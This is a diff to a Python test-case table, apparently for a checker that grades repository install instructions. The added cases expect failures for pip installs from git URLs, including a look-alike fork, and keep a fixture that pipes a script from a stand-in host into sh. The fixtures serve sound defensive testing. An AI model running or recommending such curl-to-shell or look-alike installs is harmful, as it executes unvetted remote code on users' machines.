@@ -208,7 +208,13 @@ CASES: Mapping[str, list[tuple[RepoFacts, str, str]]] = {
         (facts(GOOD), "pass", "info"),
         (facts("```\ncurl https://x.example/i | sh\n```"), "fail", "medium"),
         (facts("```\npython loader.py\n```"), "fail", "low"),
-        (facts("Run start.bat first.", files={"start.bat": 9}), "fail", "high"),
+        (facts("```\npip install git+https://github.com/huggingface/diffusers\n```"), "fail", "low"),
+        (facts("```\npip install git+https://github.com/ann/diffusers\n```"), "fail", "medium"),
+        (
+            facts("```\npip install git+https://github.com/huggingface/x\ncurl https://x.example/i | sh\n```"),
+            "fail",
+            "medium",
+        ),
         (facts(None), "not-applicable", "info"),
     ],
     "name-as-asked": [
